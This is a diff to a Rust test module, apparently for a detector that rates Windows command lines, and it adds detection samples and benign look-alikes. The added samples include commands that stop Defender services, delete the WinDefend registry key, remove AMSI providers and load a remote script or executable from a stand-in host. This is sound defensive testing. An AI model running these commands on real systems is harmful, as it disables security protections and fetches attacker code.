@@ -262,6 +262,12 @@ mod tests {
             "msiexec /y C:\\x\\a.dll",
             "rundll32 a.dat,Start",
             "fltmc unload WdFilter",
+            "'WinDefend','Sense' | % { Stop-Service $_ }",
+            "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /f",
+            "Remove-Item HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers\\*",
+            "GetObject(\"script:https://a.example/a.sct\")",
+            "[InternetShortcut]\r\nURL=file://a.example/d/a.exe",
+            "[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a)",
             "$p = @{ DisableRealtimeMonitoring = $true }\nSet-MpPreference @p",
             "$p = @{\n  'ExclusionPath' = 'C:\\'\n}\nAdd-MpPreference @p",
             "$s = -join ($b | % { [char]($_ -bxor 67) }); & $s",
@@ -309,6 +315,9 @@ mod tests {
             "Invoke-RestMethod -Method Post -Uri https://inventory.contoso.com/api -Body $json",
             "$ExclusionPath = 'C:\\Contoso'\nrobocopy C:\\Data D:\\ /xd $ExclusionPath",
             "$DisableRealtimeMonitoring = $false",
+            "'WinDefend','Sense' | % { Start-Service $_ }",
+            "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\ContosoAgent /f",
+            "[InternetShortcut]\nURL=https://intranet.contoso.com/help.html",
             "secedit /configure /db secedit.sdb /cfg baseline.inf",
         ] {
             assert!(!classes(line).iter().any(|class| class.ends_with("high")), "{line}: {:?}", classes(line));
